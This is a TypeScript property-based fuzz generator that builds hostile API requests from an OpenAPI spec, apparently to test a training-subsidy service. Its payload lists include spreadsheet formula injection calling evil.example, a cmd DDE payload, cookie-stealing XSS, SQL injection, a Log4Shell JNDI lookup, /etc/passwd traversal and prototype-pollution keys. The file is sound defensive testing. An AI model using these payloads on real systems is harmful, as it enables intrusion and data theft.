// Hostile requests, generated with fast-check from the OpenAPI document: for each operation a caller (biased
// towards the roles it lets in), path parameters naming real objects or hostile text, documented and extra
// query parameters, headers (Idempotency-Key, Accept-Language, content type, CSRF) and a body — a valid body
// with a few mutations, arbitrary JSON, deep nesting, raw bytes, an upload.
//
// A request is plain data (JSON), so a failing one can be kept in seeds.json and replayed. Real ids are named,
// not copied: `«ref:class:ENROLLING:0»` is resolved when the request is sent, as are `«rep:N:chunk»` (a huge
// string), `«date:+N»` / `«envdate:+N»` (wall-clock or workflow-clock dates), `«num:1e400»` (a JSON number
// token JSON.stringify cannot write) and `«bytes:ed a0 80»` (raw bytes inside a JSON string: invalid UTF-8).
import fc from 'fast-check';
import { HEBEI_2024 } from '../../../domain/policy';
import { apiPlan, rosterRows } from '../support';
import { FUZZ_CALLERS, type FuzzCallerName } from './bed';
import type { JsonSchema, Operation, Parameter } from './operations';

export interface FuzzHeaders {
  idempotencyKey?: string;
  lang?: string;
  contentType?: string;
  noCsrf?: boolean;
  forwardedFor?: string;
}

export type FuzzBody =
  | { json: unknown }
  | { text: string }
  | { deep: number; open: string; close: string; leaf: string }
  | { upload: 'multipart' | 'csv' | 'xlsx'; filename: string; text: string };

export interface FuzzRequest {
  op: string;
  caller: FuzzCallerName;
  params: Record<string, string>;
  query: [string, string][];
  headers: FuzzHeaders;
  body?: FuzzBody;
  /** sent twice with the same Idempotency-Key */
  replay?: boolean;
  /** a defect the contract says must be refused (issue 13: unknown fields, unsafe text, invalid UTF-8, deep JSON) */
  mustRefuse?: string;
}

// ---------- hostile values ----------

export const PROTO_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'isPrototypeOf',
  'propertyIsEnumerable',
  'toLocaleString',
  '__defineGetter__',
  '__lookupSetter__',
];
const PROTO_SORTS = [...PROTO_KEYS, ...PROTO_KEYS.map((k) => `-${k}`), '+__proto__', '-', '+', ''];

/** Characters people do not see, that turn text around, or that end strings in other languages. */
export const UNSAFE_CHARS = [
  '\u202e', // right-to-left override
  '\u202d',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u2069',
  '\u200f',
  '\u200b', // zero-width space
  '\u200c',
  '\u200d',
  '\u2060',
  '\ufeff',
  '\u0000',
  '\u0007',
  '\u0008',
  '\u001b',
  '\u007f',
  '\u0085',
];
const LONE_SURROGATES = ['\ud800', '\udbff', '\udc00', '\udfff'];
/** Line and paragraph separators: not unsafe by issue 13's rule, but they end lines where readers do not expect. */
const SEPARATORS = ['\u2028', '\u2029', '\r\n', '\u000b'];
const INJECTIONS = [
  '=HYPERLINK("http://evil.example/?"&A1,"点我")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)*cmd|',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(document.cookie)>',
  '\'; DROP TABLE "Task"; --',
  '" OR 1=1 --',
  '{{7*7}}${7*7}',
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%00',
  '%2e%2e%2f',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  'true',
  '[]',
  '{}',
  '$where',
  '{"$gt":""}',
];
const ASTRAL = ['😀', '𠀀', '𪚥', '🏴󠁧󠁢󠁳󠁣󠁴󠁿', '👨‍👩‍👧‍👦', '\u{10FFFF}', '\u{E0001}', '\u{1D54F}'];
const COMBINING = ['e\u0301\u0301\u0301', 'Z̴̡̪͓̈́͌a̸̧͎͑l̷̹͂g̶̣̀o̵̝͐', '\u0645\u0631\u062d\u0628\u0627', 'שָׁלוֹם'];

/** A code point from any plane, lone surrogates included. */
const anyCodePoint = fc
  .integer({ min: 0, max: 0x10ffff })
  .map((cp) => (cp >= 0xd800 && cp <= 0xdfff ? String.fromCharCode(cp) : String.fromCodePoint(cp)));
const cjk = fc.integer({ min: 0x4e00, max: 0x9fa5 }).map((cp) => String.fromCharCode(cp));
const asciiLetter = fc.constantFrom(
  ...'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789'.split(''),
);
const hostileUnit = fc.oneof(
  { weight: 4, arbitrary: anyCodePoint },
  { weight: 2, arbitrary: fc.constantFrom(...UNSAFE_CHARS, ...LONE_SURROGATES, ...SEPARATORS) },
  { weight: 2, arbitrary: cjk },
  { weight: 2, arbitrary: asciiLetter },
  { weight: 1, arbitrary: fc.constantFrom(...ASTRAL) },
);
const friendlyText = (min: number, max: number) =>
  fc.string({ unit: fc.oneof(cjk, asciiLetter), minLength: Math.max(min, 1), maxLength: Math.max(1, max) });

/** A huge string, written as a directive so the request stays small in seeds.json. */
const hugeString = fc
  .tuple(
    fc.constantFrom(2_000, 70_000, 300_000, 1_100_000),
    fc.constantFrom('x', '字', '😀', '\u202e', '\u0000', 'ab\ud800'),
  )
  .map(([n, chunk]) => `«rep:${Math.ceil(n / chunk.length)}:${chunk}»`);

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.string({ unit: hostileUnit, maxLength: 40 }) },
  { weight: 2, arbitrary: fc.constantFrom(...PROTO_KEYS) },
  { weight: 2, arbitrary: fc.constantFrom(...INJECTIONS) },
  { weight: 1, arbitrary: fc.constantFrom(...ASTRAL, ...COMBINING, ...LONE_SURROGATES) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(friendlyText(1, 8), fc.constantFrom(...UNSAFE_CHARS), friendlyText(1, 8))
      .map(([a, u, b]) => `${a}${u}${b}`),
  },
  { weight: 1, arbitrary: hugeString },
  { weight: 1, arbitrary: fc.constant('') },
  { weight: 1, arbitrary: fc.constantFrom(' ', '\t\n', '\u3000') },
);

const NUMBER_TOKENS = [
  '1e400',
  '-1e400',
  '1e-400',
  '-0',
  '123456789012345678901234567890',
  '9007199254740993',
  '-9007199254740993',
  '0.1e1',
  '1E2',
  '5.0000000000000000001',
];
/** Numbers, including ones JSON allows but JavaScript cannot hold (`«num:…»` tokens). */
const hostileNumber = fc.oneof(
  fc.constantFrom(...NUMBER_TOKENS).map((t) => `«num:${t}»`),
  fc.constantFrom(0, -1, 1.5, 2 ** 31, 2 ** 53, -(2 ** 53), Number.MAX_VALUE, Number.MIN_VALUE, 1e21),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
);

/** An object whose own key is a prototype name (an object literal would set the prototype instead). */
export function withKey(
  target: Record<string, unknown>,
  key: string,
  value: unknown,
): Record<string, unknown> {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
  return target;
}
const protoObject = fc
  .tuple(
    fc.constantFrom(...PROTO_KEYS),
    fc.constantFrom<unknown>({ isAdmin: true }, { polluted: 1 }, 'x', null, []),
  )
  .map(([k, v]) => withKey({}, k, k === 'constructor' ? { prototype: v } : v));

const smallJson = fc.jsonValue({ maxDepth: 3 });
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  { weight: 2, arbitrary: hostileNumber },
  { weight: 2, arbitrary: fc.constantFrom<unknown>(null, true, false, [], {}, [null], [[]], { '': '' }) },
  { weight: 2, arbitrary: protoObject },
  { weight: 1, arbitrary: smallJson },
  { weight: 1, arbitrary: fc.array(hostileString, { maxLength: 3 }) },
);

/** Keys that are never a field of any request (so adding one is an unknown field). */
const EXTRA_KEYS = [
  ...PROTO_KEYS,
  'fuzzExtra',
  '$where',
  'a.b',
  '',
  ' ',
  '\u202eevil',
  '字段',
  'role',
  'isAdmin',
];
const NEVER_FIELDS = new Set(EXTRA_KEYS.filter((k) => k !== 'role'));

/** Fields people or machines read back as text: unsafe characters in them must be refused (issue 13 §2). */
const FREE_TEXT = new Set([
  'title',
  'venue',
  'teachers',
  'content',
  'room',
  'teacher',
  'fundingChannel',
  'name',
  'reason',
  'note',
  'employer',
  'contact',
  'label',
  'displayName',
  'certificateNo',
  'zh',
  'en',
  'username',
]);

// ---------- valid values from the schema ----------

export interface Pools {
  names: string[];
}

const refTo = (pools: Pools, prefix: string) => {
  const names = pools.names.filter((n) => n === prefix || n.startsWith(`${prefix}:`));
  if (!names.length) return fc.constant(`no-such-${prefix}`);
  return fc.tuple(fc.constantFrom(...names), fc.nat(4)).map(([n, i]) => `«ref:${n}:${i}»`);
};

const ID_NUMBERS = [
  ...rosterRows(6, 97).map((r) => r.idNumber),
  '110105194912310021',
  '11010519491231002X',
  '110105194912310022', // wrong check digit
  '000000000000000000',
];
const wallDate = fc.integer({ min: -40, max: 80 }).map((n) => `«date:${n >= 0 ? '+' : ''}${n}»`);
const envDate = fc.integer({ min: -40, max: 80 }).map((n) => `«envdate:${n >= 0 ? '+' : ''}${n}»`);

/** The pool a parameter or field called `name` most likely names (or undefined: not an id). */
function poolFor(name: string, pathBefore = ''): string | undefined {
  const byName: Record<string, string> = {
    enrollmentId: 'enrollment',
    lineId: 'line',
    institutionId: 'institution',
    assessmentBodyId: 'institution',
    classId: 'class',
    userId: 'user',
    noticeId: 'notice',
    objectionId: 'objection',
    evidenceId: 'evidence',
    batchId: 'batch',
    paymentId: 'payment',
    subject: 'class',
    assignee: 'user',
  };
  if (byName[name]) return byName[name];
  if (name !== 'id') return undefined;
  const segment = pathBefore.split('/').filter(Boolean).pop() ?? '';
  const bySegment: Record<string, string> = {
    cases: 'class',
    classes: 'class',
    tasks: 'task',
    'api-keys': 'apikey',
    institutions: 'institution',
    notices: 'notice',
    batches: 'batch',
  };
  return bySegment[segment];
}

function stringFor(name: string, s: JsonSchema, pools: Pools): fc.Arbitrary<string> {
  const pool = poolFor(name);
  if (pool)
    return fc.oneof({ weight: 4, arbitrary: refTo(pools, pool) }, { weight: 1, arbitrary: patterned(s) });
  if (/date$|Date$|^date$|On$|^planned(Start|End)$|^dueBefore$/.test(name))
    return fc.oneof(wallDate, envDate);
  if (name === 'idNumber') return fc.constantFrom(...ID_NUMBERS);
  if (name === 'username') return refTo(pools, 'username');
  if (name === 'password') return fc.constantFrom('correct horse battery staple', 'wrong password!', 'x');
  if (name === 'category')
    return fc.constantFrom('城镇登记失业人员', 'REGISTERED_UNEMPLOYED', 'RURAL_MIGRANT', '农民');
  if (name === 'occupationCode' || name === 'code') return refTo(pools, 'occupation');
  if (name === 'bankAccount') return fc.constantFrom('6222 0000 1111 2222', '6222000011112223', '1234567');
  if (name === 'name') return friendlyText(2, 4);
  if (s.pattern) return patterned(s);
  return friendlyText(s.minLength ?? 1, Math.min(s.maxLength ?? 30, 30));
}

function patterned(s: JsonSchema): fc.Arbitrary<string> {
  if (!s.pattern) return friendlyText(s.minLength ?? 1, Math.min(s.maxLength ?? 20, 20));
  try {
    return fc.stringMatching(new RegExp(s.pattern, 'u')).filter((v) => v.length <= (s.maxLength ?? 200));
  } catch {
    return friendlyText(1, 20);
  }
}

/** A value the schema accepts as far as shape goes (rules may still refuse it). */
export function validFor(
  s: JsonSchema | undefined,
  name: string,
  pools: Pools,
  depth = 0,
): fc.Arbitrary<unknown> {
  if (!s || depth > 8) return fc.constant(null);
  if (s.const !== undefined) return fc.constant(s.const);
  if (s.enum?.length) return fc.constantFrom(...s.enum);
  const alts = s.oneOf ?? s.anyOf;
  if (alts?.length) return fc.oneof(...alts.map((a) => validFor(a, name, pools, depth + 1)));
  if (s.allOf?.length) return validFor(Object.assign({}, ...s.allOf) as JsonSchema, name, pools, depth + 1);
  const type = Array.isArray(s.type) ? s.type.find((t) => t !== 'null') : s.type;
  switch (type ?? (s.properties ? 'object' : undefined)) {
    case 'string':
      return stringFor(name, s, pools);
    case 'integer':
    case 'number': {
      const lo = s.minimum ?? (s.exclusiveMinimum !== undefined ? s.exclusiveMinimum + 1 : 0);
      const hi = s.maximum ?? (s.exclusiveMaximum !== undefined ? s.exclusiveMaximum - 1 : lo + 1_000);
      const min = Math.ceil(Math.max(lo, -1e6));
      const max = Math.floor(Math.max(min, Math.min(hi, min + 1_000)));
      return type === 'integer'
        ? fc.integer({ min, max })
        : fc.integer({ min: min * 2, max: max * 2 }).map((n) => n / 2);
    }
    case 'boolean':
      return fc.boolean();
    case 'array': {
      const min = s.minItems ?? 0;
      return fc.array(validFor(s.items, name, pools, depth + 1), {
        minLength: min,
        maxLength: Math.max(min, Math.min(s.maxItems ?? 3, 3)),
      });
    }
    case 'object': {
      const props = s.properties ?? {};
      const entries = Object.fromEntries(
        Object.entries(props).map(([k, v]) => [k, validFor(v, k, pools, depth + 1)]),
      );
      return fc.record(entries, { requiredKeys: (s.required ?? []).filter((k) => k in props) });
    }
    default:
      return smallJson;
  }
}

/** Bodies the schema alone cannot make plausible (a plan needs consistent dates, a roster valid ID numbers). */
function exemplars(op: Operation): fc.Arbitrary<unknown> | undefined {
  if (/^POST \/api\/v1\/institution\/classes(\/\{id\}\/plan)?$/.test(op.key))
    return fc
      .record({ capacity: fc.constantFrom(1, 30, 31, 10_000), title: friendlyText(2, 20), days: fc.nat(30) })
      .map((o) => ({ plan: apiPlan({ capacity: o.capacity, title: o.title }) }));
  if (op.key === 'POST /api/v1/institution/classes/{id}/trainees')
    return (
      fc
        // People 197–250: never the people the stages enrol (rosterRows repeats every 90 seeds).
        .tuple(fc.integer({ min: 1, max: 4 }), fc.integer({ min: 197, max: 250 }), fc.boolean())
        .map(([n, seed, validOnly]) => ({ trainees: rosterRows(n, seed), validOnly }))
    );
  if (op.key === 'POST /api/v1/admin/policies')
    return fc.constantFrom('hebei-2024', 'fuzz-2031', 'fuzz-2032').map((id) => ({
      ...HEBEI_2024,
      id,
      effectiveFrom: id === 'hebei-2024' ? HEBEI_2024.effectiveFrom : '2031-01-01',
    }));
  return undefined;
}

// ---------- mutations ----------

interface Mutation {
  kind: 'replace' | 'addKey' | 'delete' | 'unsafeText' | 'wrap';
  at: number;
  key: string;
  value: unknown;
  char: string;
}
const mutation: fc.Arbitrary<Mutation> = fc.record({
  kind: fc.constantFrom('replace', 'addKey', 'addKey', 'delete', 'unsafeText', 'unsafeText', 'wrap'),
  at: fc.nat(),
  key: fc.constantFrom(...EXTRA_KEYS),
  value: hostileValue,
  char: fc.constantFrom(...UNSAFE_CHARS),
});

interface Slot {
  parent: Record<string, unknown> | unknown[] | undefined;
  key: string | number;
  value: unknown;
}
function slots(root: unknown): Slot[] {
  const out: Slot[] = [{ parent: undefined, key: '', value: root }];
  const walk = (v: unknown, depth: number) => {
    if (depth > 10 || v === null || typeof v !== 'object') return;
    for (const [k, child] of Object.entries(v)) {
      out.push({ parent: v as Record<string, unknown>, key: Array.isArray(v) ? Number(k) : k, value: child });
      walk(child, depth + 1);
    }
  };
  walk(root, 0);
  return out;
}
const clone = (v: unknown): unknown => (v === undefined ? undefined : JSON.parse(JSON.stringify(v)));

/** Applies mutations to a copy of a valid body; says which of them the contract must refuse. */
export function mutate(valid: unknown, mutations: Mutation[]): { value: unknown; mustRefuse?: string } {
  let root = clone(valid);
  for (const mu of mutations) {
    const all = slots(root);
    const slot = all[mu.at % all.length]!;
    // Inserted values are copies: fast-check hands out the same constant objects again and again.
    const set = (value: unknown) => {
      const v = clone(value);
      if (!slot.parent) root = v;
      else if (Array.isArray(slot.parent)) slot.parent[slot.key as number] = v;
      else withKey(slot.parent, String(slot.key), v);
    };
    switch (mu.kind) {
      case 'replace':
        set(mu.value);
        break;
      case 'wrap':
        set([slot.value]);
        break;
      case 'delete':
        if (slot.parent && !Array.isArray(slot.parent)) delete slot.parent[slot.key as string];
        break;
      case 'addKey': {
        const objects = all.filter(
          (x) => x.value !== null && typeof x.value === 'object' && !Array.isArray(x.value),
        );
        const target = objects[mu.at % Math.max(objects.length, 1)]?.value as
          Record<string, unknown> | undefined;
        if (target && !Object.prototype.hasOwnProperty.call(target, mu.key))
          withKey(target, mu.key, clone(mu.value));
        break;
      }
      case 'unsafeText': {
        const strings = all.filter((x) => typeof x.value === 'string' && !String(x.value).startsWith('«'));
        const s = strings[mu.at % Math.max(strings.length, 1)];
        if (!s || !s.parent) break;
        const text = s.value as string;
        const pos = mu.at % (text.length + 1);
        (s.parent as Record<string | number, unknown>)[s.key] =
          text.slice(0, pos) + mu.char + text.slice(pos);
        break;
      }
    }
  }
  // What the contract must refuse is judged on the body as it ends up (a later mutation may undo an earlier one).
  const reasons = new Set<string>();
  const all = slots(root);
  for (const x of all) {
    if (x.value !== null && typeof x.value === 'object' && !Array.isArray(x.value))
      for (const k of Object.keys(x.value))
        if (NEVER_FIELDS.has(k)) reasons.add(`unknown field ${JSON.stringify(k)}`);
    if (typeof x.value !== 'string' || !x.parent) continue;
    const field = Array.isArray(x.parent) ? all.find((p) => p.value === x.parent)?.key : x.key;
    if (!FREE_TEXT.has(String(field))) continue;
    // A character a trimming field drops from either end never reaches the stored text.
    for (const c of UNSAFE_CHARS)
      if (x.value.trim().includes(c))
        reasons.add(
          `unsafe character U+${c.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')} in ${String(field)}`,
        );
  }
  return { value: root, ...(reasons.size ? { mustRefuse: [...reasons].join('; ') } : {}) };
}

// ---------- bodies ----------

const INVALID_UTF8 = [
  'c3 28',
  'ed a0 80',
  'ff',
  'c0 af',
  'e0 80 af',
  'f8 88 80 80 80',
  'f4 90 80 80',
  'e2 82',
];
const deepBody = fc
  .tuple(
    fc.constantFrom(200, 5_000, 100_000),
    fc.constantFrom(['{"a":', '}'], ['[', ']'], ['{"__proto__":', '}'], ['{"constructor":', '}']),
    fc.constantFrom('1', '"x"', 'null', '{}'),
  )
  .map(([deep, [open, close], leaf]): FuzzBody => ({ deep, open: open!, close: close!, leaf }));

const rawText: fc.Arbitrary<FuzzBody> = fc.oneof(
  fc
    .constantFrom(
      '',
      '{',
      '{"decision":',
      '[1,2,',
      'null',
      '"text"',
      '42',
      'true',
      '{"a":1,"a":2}',
      '{"decision":"APPROVE","decision":"REJECT"}',
      '\ufeff{}',
      '{} {}',
      '{"a":NaN}',
      '{"a":Infinity}',
      "{'a':1}",
      '{"a":"\\ud800"}',
      '{"a":"\\u0000"}',
      '{"__proto__":{"isAdmin":true}}',
      '{"constructor":{"prototype":{"polluted":1}}}',
    )
    .map((text) => ({ text })),
  fc
    .tuple(
      fc.constantFrom('reason', 'decision', 'note', 'lineId', 'username', 'label'),
      fc.constantFrom(...INVALID_UTF8),
    )
    .map(([k, hex]) => ({ text: `{"${k}":"abc«bytes:${hex}»def"}` })),
);

/** A roster or bank-return file: a header row and a few rows, cells valid or hostile. */
function uploadBody(op: Operation, pools: Pools): fc.Arbitrary<FuzzBody> {
  const bank = op.path.includes('bank-returns');
  const cell = fc.oneof(hostileString, friendlyText(1, 6));
  const row = bank
    ? fc
        .tuple(
          fc.oneof(refTo(pools, 'payment'), cell),
          fc.constantFrom('成功', '失败', 'PAID', 'maybe'),
          cell,
          cell,
        )
        .map((cells) => cells.join(','))
    : fc
        .tuple(
          fc.oneof(friendlyText(2, 4), cell),
          fc.oneof(fc.constantFrom(...ID_NUMBERS), cell),
          fc.oneof(fc.constant('城镇登记失业人员'), cell),
        )
        .map((cells) => cells.join(','));
  const header = bank ? '付款编号,状态,银行流水号,失败原因' : '姓名,身份证号,人员类别';
  const csv = fc
    .tuple(fc.constantFrom(header, '', 'a,b,c', `\ufeff${header}`), fc.array(row, { maxLength: 4 }))
    .map(([h, rows]) => [h, ...rows].join('\r\n'));
  return fc.oneof(
    fc
      .tuple(csv, fc.constantFrom('roster.csv', '../../etc/passwd', 'a\u202excs.csv', '名单.csv', ''))
      .map(([text, filename]): FuzzBody => ({ upload: 'multipart', filename, text })),
    csv.map((text): FuzzBody => ({ upload: 'csv', filename: '', text })),
    fc
      .constantFrom('PK\u0003\u0004garbage', '', 'not a spreadsheet')
      .map((text): FuzzBody => ({ upload: 'xlsx', filename: '', text })),
  );
}

function bodyFor(op: Operation, pools: Pools): fc.Arbitrary<{ body?: FuzzBody; mustRefuse?: string }> {
  const none = fc.constant({});
  const arbitraryJson = fc
    .oneof(
      fc.jsonValue({ maxDepth: 4 }),
      hostileValue,
      fc.dictionary(fc.oneof(fc.constantFrom(...EXTRA_KEYS), fc.string()), hostileValue, { maxKeys: 4 }),
    )
    .map((json) => ({ body: { json } as FuzzBody }));
  const deep = deepBody.map((body) => ({
    body,
    mustRefuse: 'deep' in body && body.deep >= 1_000 ? `JSON nested ${body.deep} deep` : undefined,
  }));
  const raw = rawText.map((body) => ({
    body,
    mustRefuse:
      'text' in body && body.text.includes('«bytes:') ? 'invalid UTF-8 in a JSON string' : undefined,
  }));
  if (op.uploadTypes.length)
    return fc.oneof(
      { weight: 6, arbitrary: uploadBody(op, pools).map((body) => ({ body })) },
      { weight: 1, arbitrary: none },
      { weight: 1, arbitrary: arbitraryJson },
      { weight: 1, arbitrary: deep },
    );
  if (!op.body) {
    if (op.method === 'get')
      return fc.oneof({ weight: 9, arbitrary: none }, { weight: 1, arbitrary: arbitraryJson });
    return fc.oneof(
      { weight: 5, arbitrary: none },
      { weight: 1, arbitrary: arbitraryJson },
      { weight: 1, arbitrary: deep },
      { weight: 1, arbitrary: raw },
    );
  }
  const valid = exemplars(op)
    ? fc.oneof(validFor(op.body, '', pools), exemplars(op)!)
    : validFor(op.body, '', pools);
  const mutated = fc.tuple(valid, fc.array(mutation, { minLength: 1, maxLength: 2 })).map(([v, ms]) => {
    const { value, mustRefuse } = mutate(v, ms);
    return { body: { json: value } as FuzzBody, mustRefuse };
  });
  // Text people really write, from every plane: a valid body carrying it must get as far as a valid one.
  const exotic = fc
    .tuple(
      valid,
      fc.nat(),
      fc.constantFrom(...ASTRAL.slice(0, 5), ...COMBINING, '𠮷野家', '＝１＋１', '김치'),
    )
    .map(([v, at, text]) => {
      const root = clone(v);
      const strings = slots(root).filter(
        (x) => typeof x.value === 'string' && !String(x.value).startsWith('«') && x.parent,
      );
      const s = strings[at % Math.max(strings.length, 1)];
      if (s && s.parent) (s.parent as Record<string | number, unknown>)[s.key] = `${String(s.value)}${text}`;
      return { body: { json: root } as FuzzBody };
    });
  return fc.oneof(
    { weight: 6, arbitrary: mutated },
    { weight: 4, arbitrary: valid.map((json) => ({ body: { json } as FuzzBody })) },
    { weight: 2, arbitrary: exotic },
    { weight: 2, arbitrary: arbitraryJson },
    { weight: 1, arbitrary: deep },
    { weight: 2, arbitrary: raw },
    { weight: 1, arbitrary: none },
  );
}

// ---------- path, query, headers, caller ----------

/** `arb` one time in `every`, undefined otherwise. */
const sometimes = <T>(arb: fc.Arbitrary<T>, every: number): fc.Arbitrary<T | undefined> =>
  fc.oneof({ weight: every - 1, arbitrary: fc.constant(undefined) }, { weight: 1, arbitrary: arb });

const HOSTILE_IDS = [
  ...PROTO_KEYS,
  '..',
  '.',
  '«raw:%2e%2e»',
  '«raw:%2F»',
  '«raw:%00»',
  '«raw:%ED%A0%80»',
  '«raw:%E0%A4%A»',
  '«raw:%zz»',
  '«raw:%»',
  "' OR 1=1--",
  'x'.repeat(161),
  'SJZ-2026-999999',
  'SJZ-2026-000001-A',
  'SJZ-2026-000001-S1',
];
function paramFor(op: Operation, p: Parameter, pools: Pools): fc.Arbitrary<string> {
  const before = op.path.slice(0, op.path.indexOf(`{${p.name}}`));
  const pool = poolFor(p.name, before);
  const hostile = fc.oneof(
    fc.constantFrom(...HOSTILE_IDS),
    hostileString.filter((s) => !s.startsWith('«rep:')),
  );
  if (!pool) return fc.oneof(friendlyText(1, 10), hostile);
  return fc.oneof({ weight: 7, arbitrary: refTo(pools, pool) }, { weight: 3, arbitrary: hostile });
}

const SORT_FIELDS = [
  'id',
  'createdAt',
  'updatedAt',
  'dueAt',
  'stageSince',
  'plannedStart',
  'title',
  'name',
  'date',
  'at',
  'publishedAt',
  'closesAt',
  'totalFen',
];
const cursorArb = fc.oneof(
  fc.constantFrom('abc', '%7B', '{"s":"id"}', 'eyJzIjoiaWQiLCJ2IjpudWxsLCJpZCI6MX0', ''),
  fc
    .record({
      s: fc.constantFrom('id', '-id', '-createdAt', 'dueAt', ...PROTO_SORTS),
      v: hostileValue,
      id: hostileValue,
    })
    .map((c) => Buffer.from(JSON.stringify(c), 'utf8').toString('base64url')),
  protoObject.map((c) => Buffer.from(JSON.stringify(c), 'utf8').toString('base64url')),
);
const LIMITS = [
  '1',
  '50',
  '200',
  '0',
  '-1',
  '201',
  '1e2',
  '0x10',
  'abc',
  '',
  '9'.repeat(400),
  'Infinity',
  'NaN',
  '1.5',
  ' 3',
  '1e309',
];

function queryValueFor(op: Operation, p: Parameter, pools: Pools): fc.Arbitrary<string> {
  const hostile = fc.oneof(
    hostileString.filter((s) => !s.startsWith('«rep:') || s.length < 20),
    fc.constantFrom(...PROTO_KEYS),
  );
  let valid: fc.Arbitrary<string>;
  if (p.name === 'sort') {
    valid = fc.tuple(fc.constantFrom('', '-', '+'), fc.constantFrom(...SORT_FIELDS)).map(([d, f]) => d + f);
    return fc.oneof(
      { weight: 3, arbitrary: valid },
      { weight: 2, arbitrary: fc.constantFrom(...PROTO_SORTS) },
      { weight: 1, arbitrary: hostile },
    );
  }
  if (p.name === 'cursor') return cursorArb;
  if (p.name === 'limit')
    return fc.oneof(
      { weight: 3, arbitrary: fc.integer({ min: 1, max: 200 }).map(String) },
      { weight: 1, arbitrary: fc.constantFrom(...LIMITS) },
    );
  valid = validFor(p.schema, p.name, pools).map((v) =>
    typeof v === 'string' ? v : (JSON.stringify(v) ?? ''),
  );
  return fc.oneof({ weight: 5, arbitrary: valid }, { weight: 1, arbitrary: hostile });
}

function queryFor(op: Operation, pools: Pools): fc.Arbitrary<[string, string][]> {
  const documented = op.query.map((p) =>
    sometimes(
      queryValueFor(op, p, pools).map((v) => [p.name, v] as [string, string]),
      3,
    ),
  );
  const extra = fc.array(
    fc.tuple(
      fc.oneof(
        fc.constantFrom(...PROTO_KEYS, 'sort[]', 'sort[__proto__]', 'a[b]', '', '字'),
        ...op.query.map((p) => fc.constant(p.name)),
      ),
      fc.oneof(
        hostileString.filter((s) => !s.startsWith('«rep:')),
        fc.constantFrom(...PROTO_KEYS),
      ),
    ),
    { minLength: 1, maxLength: 2 },
  );
  return fc
    .tuple(fc.tuple(...documented), sometimes(extra, 5))
    .map(([doc, more]) => [...doc.filter((x): x is [string, string] => !!x), ...(more ?? [])]);
}

const IDEMPOTENCY_KEYS = fc.oneof(
  {
    weight: 5,
    arbitrary: fc
      .string({ unit: fc.constantFrom(...'abcdef0123456789-'.split('')), minLength: 8, maxLength: 24 })
      .map((s) => `fz-${s}`),
  },
  { weight: 2, arbitrary: fc.constantFrom('fz-shared-1', 'fz-shared-2') },
  {
    weight: 1,
    arbitrary: fc.constantFrom('', ' ', 'a b', 'ééé', 'x'.repeat(201), '__proto__', 'constructor'),
  },
);
const LANGS = [
  'en',
  'en-GB,en;q=0.9',
  'zh-CN',
  'zh',
  '*',
  'fr-FR',
  'en;q=0',
  'en;q=abc, zh;q=0.5',
  'xx-'.repeat(60),
  'EN',
  'zh-CN;q=0.1, en;q=0.9',
];
const CONTENT_TYPES = [
  'application/json; charset=utf-8',
  'application/json; charset=latin1',
  'application/json; charset=klingon',
  'application/merge-patch+json',
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=zz',
  'application/json; charset=utf-16',
];

function headersFor(op: Operation): fc.Arbitrary<FuzzHeaders> {
  return fc.record(
    {
      idempotencyKey:
        op.method === 'post' ? sometimes(IDEMPOTENCY_KEYS, op.idempotency ? 2 : 6) : fc.constant(undefined),
      lang: sometimes(fc.constantFrom(...LANGS), 2),
      contentType: sometimes(fc.constantFrom(...CONTENT_TYPES), 8),
      noCsrf: sometimes(fc.constant(true), 15),
      forwardedFor: sometimes(
        fc.constantFrom('203.0.113.7', '::1', 'garbage', '127.0.0.1, 10.0.0.1', 'é'),
        12,
      ),
    },
    { requiredKeys: [] },
  );
}

const ROLE_CALLERS: Record<string, FuzzCallerName[]> = {
  CASEWORKER: ['caseworker'],
  FINANCE: ['finance'],
  MANAGER: ['manager'],
  ADMIN: ['admin'],
  INSTITUTION: ['institution', 'institutionKey', 'otherInstitution'],
  ASSESSOR: ['assessor', 'assessorSession', 'otherAssessor'],
  public: [...FUZZ_CALLERS],
  authenticated: FUZZ_CALLERS.filter((c) => c !== 'anonymous' && c !== 'badKey'),
};

function callerFor(op: Operation): fc.Arbitrary<FuzzCallerName> {
  const allowed = [...new Set(op.who.flatMap((w) => ROLE_CALLERS[w] ?? []))];
  if (!allowed.length) return fc.constantFrom(...FUZZ_CALLERS);
  return fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...allowed) },
    { weight: 2, arbitrary: fc.constantFrom(...FUZZ_CALLERS) },
  );
}

export function requestFor(op: Operation, pools: Pools): fc.Arbitrary<FuzzRequest> {
  const params = fc.record(
    Object.fromEntries(op.pathParams.map((p) => [p.name, paramFor(op, p, pools)])) as Record<
      string,
      fc.Arbitrary<string>
    >,
  );
  return fc
    .record({
      caller: callerFor(op),
      params,
      query: queryFor(op, pools),
      headers: headersFor(op),
      body: bodyFor(op, pools),
      replay: sometimes(fc.constant(true), 8),
    })
    .map(({ caller, params: p, query, headers, body, replay }) => {
      const r: FuzzRequest = { op: op.key, caller, params: p, query, headers };
      if (body.body) r.body = body.body;
      if (replay && headers.idempotencyKey) r.replay = true;
      if (body.mustRefuse) r.mustRefuse = body.mustRefuse;
      // A body on an endpoint without one is ignored, except when deep or broken bytes: those are judged anyway.
      return r;
    });
}

/** One operation, then a request for it: every documented endpoint is drawn equally often. */
export function anyRequest(ops: Operation[], pools: Pools): fc.Arbitrary<FuzzRequest> {
  return fc.oneof(...ops.map((op) => requestFor(op, pools)));
}
